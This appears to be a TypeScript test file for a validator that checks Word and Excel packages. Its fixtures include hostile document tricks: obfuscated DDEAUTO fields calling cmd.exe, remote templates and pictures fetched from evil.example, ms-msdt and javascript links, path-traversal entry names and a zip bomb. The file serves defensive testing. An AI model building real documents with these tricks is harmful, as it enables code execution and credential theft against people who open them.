import { randomBytes } from 'node:crypto';
import { checkOfficeFile } from './check-office-file';
import { office, relations, type OfficeKind, type OfficeOptions, type Relation } from './test-office';
import { zip, type ZipEntry } from './test-zip';

const OPEN_XML = 'application/vnd.openxmlformats-officedocument';
const PNG = Buffer.from('\x89PNG', 'latin1');
const table = (options?: OfficeOptions) => office('xlsx', options);

const codeOf = (data: Buffer): string => {
  try {
    checkOfficeFile(data);
    return 'taken';
  } catch (error) {
    return (error as { code: string }).code;
  }
};

const chart = (target = '../embeddings/Microsoft_Excel_Sheet1.xlsx', embedded = table()): OfficeOptions => ({
  related: [{ type: 'chart', target: 'charts/chart1.xml' }],
  types: { '.xlsx': `${OPEN_XML}.spreadsheetml.sheet`, 'word/charts/chart1.xml': `${OPEN_XML}.drawingml.chart+xml` },
  parts: {
    'word/charts/chart1.xml': '<c:chart/>',
    'word/charts/_rels/chart1.xml.rels': relations({ type: 'package', target }),
    'word/embeddings/Microsoft_Excel_Sheet1.xlsx': embedded,
  },
});

/** Fields as Word writes them: in one element, or spread over several. */
const simple = (instruction: string) => `<w:fldSimple w:instr="${instruction}"><w:r/></w:fldSimple>`;
const spread = (...runs: string[]) =>
  '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
  runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join('') +
  '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>';

test.each<[string, OfficeKind, OfficeOptions]>([
  ['a text', 'docx', {}],
  ['a table', 'xlsx', {}],
  [
    'a text with pictures, a header, notes and links',
    'docx',
    {
      related: [
        { type: 'image', target: 'media/image1.png' },
        { type: 'header', target: 'header1.xml' },
        { type: 'footnotes', target: 'footnotes.xml' },
        { type: 'hyperlink', target: 'https://arbora.example/?a=1&amp;b=2', mode: 'External' },
        { type: 'hyperlink', target: 'mailto:info@arbora.example', mode: 'External' },
        { type: 'hyperlink', target: '#zacatek', mode: 'External' },
        { type: 'hyperlink', target: 'cenik.xlsx', mode: 'External' },
        { type: 'customXml', target: '../customXml/item1.xml' },
      ],
      types: {
        'word/header1.xml': `${OPEN_XML}.wordprocessingml.header+xml`,
        'word/footnotes.xml': `${OPEN_XML}.wordprocessingml.footnotes+xml`,
        'customXml/itemProps1.xml': `${OPEN_XML}.customXmlProperties+xml`,
      },
      parts: {
        'word/media/image1.png': PNG,
        'word/header1.xml': `<w:hdr>${spread(' PAGE ')}</w:hdr>`,
        'word/footnotes.xml': '<w:footnotes/>',
        'customXml/item1.xml': '<b/>',
        'customXml/itemProps1.xml': '<ds/>',
        'customXml/_rels/item1.xml.rels': relations({ type: 'customXmlProps', target: 'itemProps1.xml' }),
      },
      body: simple('PAGE') + spread(' TOC \\o "1-3" \\h ') + spread(' HYPER', 'LINK "https://a.example/DDE" ') + spread('MACROBUTTON x y'),
    },
  ],
  ['a text with fonts and a printer', 'docx', {
    related: [{ type: 'fontTable', target: 'fontTable.xml' }, { type: 'printerSettings', target: 'printerSettings/printerSettings1.bin' }],
    types: { '.odttf': `${OPEN_XML}.obfuscatedFont`, '.bin': `${OPEN_XML}.wordprocessingml.printerSettings` },
    parts: {
      'word/fontTable.xml': '<w:fonts/>',
      'word/_rels/fontTable.xml.rels': relations({ type: 'font', target: 'fonts/font1.odttf' }),
      'word/fonts/font1.odttf': PNG,
      'word/printerSettings/printerSettings1.bin': PNG,
    },
  }],
  ['a text with a chart and its table', 'docx', chart()],
  ['a text with folders in the archive', 'docx', { parts: { 'word/media/': '' } }],
  [
    'a table with texts, a chart, comments, a pivot and a printer',
    'xlsx',
    {
      related: [
        { type: 'worksheet', target: 'worksheets/sheet1.xml' },
        { type: 'sharedStrings', target: '/xl/sharedStrings.xml' },
        { type: 'theme', target: 'theme/theme1.xml' },
        { type: 'http://schemas.microsoft.com/office/2017/10/relationships/person', target: 'persons/person.xml' },
      ],
      types: {
        '.bin': `${OPEN_XML}.spreadsheetml.printerSettings`,
        'xl/worksheets/sheet1.xml': `${OPEN_XML}.spreadsheetml.worksheet+xml`,
        'xl/sharedStrings.xml': `${OPEN_XML}.spreadsheetml.sharedStrings+xml`,
        'xl/theme/theme1.xml': `${OPEN_XML}.theme+xml`,
        'xl/drawings/drawing1.xml': `${OPEN_XML}.drawing+xml`,
        'xl/charts/chart1.xml': `${OPEN_XML}.drawingml.chart+xml`,
        'xl/charts/style1.xml': 'application/vnd.ms-office.chartstyle+xml',
        'xl/persons/person.xml': 'application/vnd.ms-excel.person+xml',
      },
      parts: {
        'xl/worksheets/sheet1.xml': '<worksheet><sheetData/></worksheet>',
        'xl/worksheets/_rels/sheet1.xml.rels': relations(
          { type: 'drawing', target: '../drawings/drawing1.xml' },
          { type: 'vmlDrawing', target: '../drawings/vmlDrawing1.vml' },
          { type: 'printerSettings', target: '../printerSettings/printerSettings1.bin' },
          { type: 'hyperlink', target: 'https://arbora.example', mode: 'External' },
        ),
        'xl/sharedStrings.xml': '<sst/>',
        'xl/theme/theme1.xml': '<a:theme/>',
        'xl/drawings/drawing1.xml': '<xdr/>',
        'xl/drawings/_rels/drawing1.xml.rels': relations({ type: 'chart', target: '../charts/chart1.xml' }),
        'xl/drawings/vmlDrawing1.vml': '<xml/>',
        'xl/charts/chart1.xml': '<c/>',
        'xl/charts/style1.xml': '<c/>',
        'xl/charts/_rels/chart1.xml.rels': relations({
          type: 'http://schemas.microsoft.com/office/2011/relationships/chartStyle',
          target: 'style1.xml',
        }),
        'xl/printerSettings/printerSettings1.bin': PNG,
        'xl/persons/person.xml': '<p/>',
      },
    },
  ],
])('%s is accepted', (_, kind, options) => {
  expect(codeOf(office(kind, options))).toBe('taken');
}); // oxfmt-ignore

test('the workbooks of all charts count together', () => {
  const charts = (count: number) => {
    const of = Array.from({ length: count }, (_, index) => index + 1);
    const large = table({ parts: { 'xl/media/image1.png': randomBytes(2_000_000) } });
    return office('docx', {
      related: of.map((n) => ({ type: 'chart', target: `charts/chart${n}.xml` })),
      types: {
        '.xlsx': `${OPEN_XML}.spreadsheetml.sheet`,
        ...Object.fromEntries(of.map((n) => [`word/charts/chart${n}.xml`, `${OPEN_XML}.drawingml.chart+xml`])),
      },
      parts: Object.fromEntries(
        of.flatMap((n) => [
          [`word/charts/chart${n}.xml`, '<c:chart/>'],
          [
            `word/charts/_rels/chart${n}.xml.rels`,
            relations({ type: 'package', target: `../embeddings/Microsoft_Excel_Sheet${n}.xlsx` }),
          ],
          [`word/embeddings/Microsoft_Excel_Sheet${n}.xlsx`, large],
        ]),
      ),
    });
  };
  expect([2, 9].map((count) => codeOf(charts(count)))).toEqual(['taken', 'media.file_unreadable']);
});

const MACRO = 'application/vnd.ms-office.vbaProject';
const external = (type: string, target: string, mode = 'External'): OfficeOptions => ({
  related: [{ type, target, mode }],
});
const linked = (
  relation: Relation,
  parts: Record<string, string> = {},
  types: Record<string, string> = {},
): OfficeOptions => ({
  related: [relation],
  parts,
  types,
});

test.each<[string, OfficeKind, OfficeOptions]>([
  ['macros by their name', 'docx', { parts: { 'word/vbaProject.bin': '' }, types: { '.bin': MACRO } }],
  ['macros in another case', 'docx', { parts: { 'word/VBAPROJECT.BIN': '' }, types: { '.bin': MACRO } }],
  ['macros under another name', 'docx', { parts: { 'word/x.xml': '' }, types: { 'word/x.xml': MACRO } }],
  ['macros under an ending', 'docx', { parts: { 'word/x.dat': '' }, types: { '.dat': MACRO } }],
  ['macros by their relation', 'docx', linked({ type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'x.xml' }, { 'word/x.xml': '' })],
  ['a macro document by its main type', 'docx', { types: { 'word/document.xml': 'application/vnd.ms-word.document.macroEnabled.main+xml' } }],
  ['a macro table by its main type', 'xlsx', { types: { 'xl/workbook.xml': 'application/vnd.ms-excel.sheet.macroEnabled.main+xml' } }],
  ['a template', 'docx', { types: { 'word/document.xml': `${OPEN_XML}.wordprocessingml.template.main+xml` } }],
  ['a main type in capitals', 'docx', { types: { 'word/document.xml': `${OPEN_XML}.WORDPROCESSINGML.DOCUMENT.MAIN+XML` } }],
  ['macros of old', 'xlsx', { parts: { 'xl/macrosheets/sheet1.xml': '' } }],
  ['macros of old by type', 'xlsx', { parts: { 'xl/worksheets/sheet9.xml': '' }, types: { 'xl/worksheets/sheet9.xml': 'application/vnd.ms-excel.macrosheet+xml' } }],
  ['macros of old by relation', 'xlsx', linked({ type: 'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet', target: 'worksheets/sheet9.xml' }, { 'xl/worksheets/sheet9.xml': '' })],
  ['a control', 'docx', { parts: { 'word/activeX/activeX1.xml': '' } }],
  ['a control by relation', 'docx', linked({ type: 'control', target: 'x.xml' }, { 'word/x.xml': '' })],
  ['a template to fetch', 'docx', external('attachedTemplate', 'https://evil.example/a.dotm')],
  ['a template to fetch, in an own list', 'docx', { parts: { 'word/settings.xml': '', 'word/_rels/settings.xml.rels': relations({ type: 'attachedTemplate', target: 'https://evil.example/a.dotm', mode: 'External' }) } }],
  ['a template to fetch, in a list of another case', 'docx', { parts: { 'word/_rels/settings.xml.RELS': relations({ type: 'attachedTemplate', target: 'https://evil.example/a', mode: 'External' }) } }],
  ['a template with entities', 'docx', external('attachedTempl&#97;te', 'https://evil.example/a')],
  ['a picture to fetch', 'docx', external('image', 'https://evil.example/a.png')],
  ['a picture on a share', 'docx', external('image', '\\\\evil.example\\a.png')],
  ['a picture without the mode', 'docx', { related: [{ type: 'image', target: 'https://evil.example/a.png' }] }],
  ['a picture of another host', 'docx', { related: [{ type: 'image', target: '//evil.example/a.png' }] }],
  ['a mode in another case', 'docx', external('image', 'a.png', 'external')],
  ['a link that runs', 'docx', external('hyperlink', 'javascript:alert(1)')],
  ['a link to a program', 'docx', external('hyperlink', 'file:///C:/Windows/System32/calc.exe')],
  ['a link to a share', 'docx', external('hyperlink', '\\\\evil.example\\share')],
  ['a link to a share in slashes', 'docx', external('hyperlink', '//evil.example/share')],
  ['a link to a program of the system', 'docx', external('hyperlink', 'ms-msdt:/id x')],
  ['an included page', 'docx', linked({ type: 'aFChunk', target: 'x.mht' }, { 'word/x.mht': '' }, { '.mht': 'message/rfc822' })],
  ['an included page in XML', 'docx', linked({ type: 'aFChunk', target: 'x.xml' }, { 'word/x.xml': '' })],
  ['a part of another document', 'docx', external('subDocument', 'https://evil.example/a.docx')],
  ['a frame', 'docx', external('frame', 'https://evil.example/')],
  ['an embedded object', 'docx', linked({ type: 'oleObject', target: 'embeddings/a.bin' }, { 'word/embeddings/a.bin': '' })],
  ['an embedded object by type', 'docx', { parts: { 'word/media/a.png': '' }, types: { 'word/media/a.png': `${OPEN_XML}.oleObject` } }],
  ['an embedded object under another ending', 'docx', { parts: { 'word/embeddings/a.ole': '' }, types: { '.ole': 'application/xml' } }],
  ['an embedded page', 'xlsx', { parts: { 'xl/embeddings/b.html': '' }, types: { '.html': 'text/html' } }],
  ['an embedded program', 'xlsx', { parts: { 'xl/embeddings/setup.exe': '' }, types: { '.exe': 'application/xml' } }],
  ['an embedded table that is no chart', 'docx', linked({ type: 'package', target: 'embeddings/a.xlsx' }, { 'word/embeddings/a.xlsx': '' }, { '.xlsx': `${OPEN_XML}.spreadsheetml.sheet` })],
  ['an embedded table that nothing needs', 'docx', { parts: { 'word/embeddings/a.xlsx': '' }, types: { '.xlsx': `${OPEN_XML}.spreadsheetml.sheet` } }],
  ['a chart with a table that has macros', 'docx', chart(undefined, table({ parts: { 'xl/vbaProject.bin': '' }, types: { '.bin': MACRO } }))],
  ['a chart with a table that has a chart with a table', 'docx', chart(undefined, table({ parts: { 'xl/embeddings/a.xlsx': '' }, types: { '.xlsx': `${OPEN_XML}.spreadsheetml.sheet` } }))],
  ['another document behind a chart', 'docx', { ...chart(), parts: { ...chart().parts, 'word/embeddings/a.docx': '' } }],
  ['a link to another table', 'xlsx', { parts: { 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>' }, types: { 'xl/externalLinks/externalLink1.xml': `${OPEN_XML}.spreadsheetml.externalLink+xml` } }],
  ['a link to another table by relation', 'xlsx', linked({ type: 'externalLink', target: 'x.xml' }, { 'xl/x.xml': '' })],
  ['a connection to data', 'xlsx', linked({ type: 'connections', target: 'connections.xml' }, { 'xl/connections.xml': '' })],
  ['data over a network', 'xlsx', linked({ type: 'volatileDependencies', target: 'x.xml' }, { 'xl/x.xml': '' })],
  ['own buttons of the program', 'xlsx', { parts: { 'customUI/customUI.xml': '' } }],
  ['an add-in', 'docx', { parts: { '_rels/.rels': relations({ type: 'officeDocument', target: 'word/document.xml' }, { type: 'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes', target: 'word/x.xml' }), 'word/x.xml': '' } }],
  ['keys that run macros', 'docx', linked({ type: 'http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations', target: 'x.xml' }, { 'word/x.xml': '' })],
  ['a video', 'docx', external('video', 'https://evil.example/a.mp4')],
  ['relations under another name', 'docx', { parts: { 'word/x.xml': '' }, types: { 'word/x.xml': 'application/vnd.openxmlformats-package.relationships+xml' } }],
  ['a name that climbs', 'docx', { parts: { '../../evil.sh': '' } }],
  ['a name that climbs from within', 'docx', { parts: { 'word/../../evil.xml': '' } }],
  ['an absolute name', 'docx', { parts: { '/word/evil.xml': '' } }],
  ['a name with backslashes', 'docx', { parts: { 'word\\..\\evil.xml': '' } }],
  ['a name with a drive', 'docx', { parts: { 'C:/evil.xml': '' } }],
  ['a program beside', 'docx', { parts: { 'evil.sh': '' } }],
  ['a page beside', 'docx', { parts: { 'word/page.html': '' } }],
  ['a script of OpenDocument', 'docx', { parts: { 'Basic/Standard/Module1.xml': '' } }],
  ['a field that runs a program', 'docx', { body: simple('DDEAUTO c:\\\\windows\\\\cmd.exe') }],
  ['such a field in small letters', 'docx', { body: simple(' dde cmd') }],
  ['such a field by entities', 'docx', { body: simple('&#68;D&#x45;AUTO x') }],
  ['such a field in pieces', 'docx', { body: spread(' D', 'DE', 'AUTO cmd ') }],
  ['such a field in CDATA', 'docx', { body: spread('<![CDATA[DDE]]>AUTO cmd') }],
  ['such a field with a comment within', 'docx', { body: spread('DD<!-- x -->E cmd') }],
  ['such a field behind another one', 'docx', { body: '<w:fldChar w:fldCharType="begin"/>' + spread(' PAGE ') + '<w:instrText>DDE cmd</w:instrText><w:fldChar w:fldCharType="end"/>' }],
  ['such a field with entities in its marks', 'docx', { body: spread(' PAGE ').replace('"begin"', '"&#98;egin"') + spread('DDE x') }],
  ['such a field under another prefix', 'docx', { body: '<x:fldSimple x:instr="DDE cmd"/>' }],
  ['such a field in a header', 'docx', { parts: { 'word/header1.xml': simple('DDE cmd') } }],
  ['a field that fetches a picture', 'docx', { body: spread('INCLUDEPICTURE "https://evil.example/a.png" \\d') }],
  ['a field that fetches a text', 'docx', { body: simple('INCLUDETEXT &quot;\\\\\\\\evil\\\\a&quot;') }],
  ['a field that links an object', 'docx', { body: simple('LINK Excel.Sheet x') }],
])('%s is refused as unsafe', (_, kind, options) => {
  expect(codeOf(office(kind, options))).toBe('media.file_unsafe');
}); // oxfmt-ignore

const entry = (name: string, more: Partial<ZipEntry> = {}): ZipEntry => ({ name, data: Buffer.from('x'), ...more });
const withEntries = (...more: ZipEntry[]): Buffer =>
  zip([entry('[Content_Types].xml'), entry('word/document.xml'), ...more]);
const changed = (data: Buffer, change: (copy: Buffer) => void): Buffer => {
  const copy = Buffer.from(data);
  change(copy);
  return copy;
};

test.each<[string, Buffer]>([
  ['two types of one part', office('docx', { contentTypes: '<Types><Default Extension="xml" ContentType="application/xml"/><Default Extension="XML" ContentType="application/xml"/></Types>' })],
  ['a list of types with declarations', office('docx', { contentTypes: '<!DOCTYPE a [<!ENTITY b "c">]><Types/>' })],
  ['a list of types that is no XML', office('docx', { contentTypes: '<Types>' })],
  ['a list of types in UTF-16', zip({ '[Content_Types].xml': Buffer.from('\ufeff<Types/>', 'utf16le'), 'word/document.xml': 'x' })],
  ['a part without a type', office('docx', { parts: { 'word/media/a.gif': '' } })],
  ['a text with declarations', office('docx', { body: '<!DOCTYPE x>' })],
  ['a text that does not end', office('docx', { body: '<!-- ' })],
  ['an encrypted file', withEntries(entry('word/a.xml', { encrypted: true }))],
  ['a file twice', withEntries(entry('word/DOCUMENT.xml'))],
  ['a header with another name', withEntries(entry('word/a.xml', { localName: 'word/b.xml' }))],
  ['a file that is longer than it says', zip([entry('[Content_Types].xml', { data: Buffer.alloc(9000), size: 10 }), entry('word/document.xml')])],
  ['a file of 100 MB in a few bytes', zip([entry('[Content_Types].xml', { data: Buffer.alloc(100 * 1024 * 1024) }), entry('word/document.xml')])],
  ['bytes before the archive', Buffer.concat([Buffer.from('MZ'), office('docx')])],
  ['a file that the list leaves out', changed(withEntries(entry('word/a.xml', { stored: true })), (copy) => copy.writeUInt16LE(2, copy.length - 12))],
  ['another number of disks', changed(office('docx'), (copy) => copy.writeUInt16LE(1, copy.length - 18))],
  ['another way of packing', changed(withEntries(), (copy) => { copy.writeUInt16LE(9, 8); copy.writeUInt16LE(9, copy.indexOf('PK\x01\x02') + 10); })],
])('%s cannot be examined', (_, data) => {
  expect(codeOf(data)).toBe('media.file_unreadable');
}); // oxfmt-ignore

test('lists far longer than those of real documents are not parsed', () => {
  const entries = '<Default Extension="a" ContentType="application/xml"/>'.repeat(20_000);
  expect(codeOf(office('docx', { contentTypes: `<Types>${entries}</Types>` }))).toBe('media.file_unreadable');
  const related = Array.from({ length: 20_000 }, (_, index) => ({ type: 'image', target: `media/${index}.png` }));
  expect(codeOf(office('docx', { related }))).toBe('media.file_unreadable');
});
